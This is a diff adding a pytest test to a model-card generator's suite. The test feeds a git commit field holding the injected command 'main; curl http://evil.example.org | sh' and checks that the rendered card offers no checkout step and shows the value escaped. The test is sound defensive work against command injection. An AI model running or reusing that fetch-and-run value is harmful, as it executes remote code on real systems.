@@ -288,6 +288,15 @@ def test_what_stands_in_the_record_can_neither_run_nor_break_the_card(recorded: 
     assert card["purpose"] == " ".join(NASTY.split())
 
 
+def test_only_a_commit_is_told_to_be_checked_out(make: Make, tmp_path: Path) -> None:
+    uri = make(metrics=METRICS, **{"lineage.git_commit": "main; curl http://evil.example.org | sh"})
+    _, markdown, html = card_of(uri, tmp_path)
+    for text in (markdown, html):
+        assert "git checkout" not in text
+        assert "mlflow run . -e reproduce -P run_id=" in text
+    assert "- commit: main; curl http&#58;//evil.example.org \\| sh" in markdown
+
+
 @pytest.mark.parametrize("width", [1280, 390])
 def test_the_page_stands_on_its_own(recorded: str, tmp_path: Path, chromium: str, width: int) -> None:
     from playwright.sync_api import sync_playwright
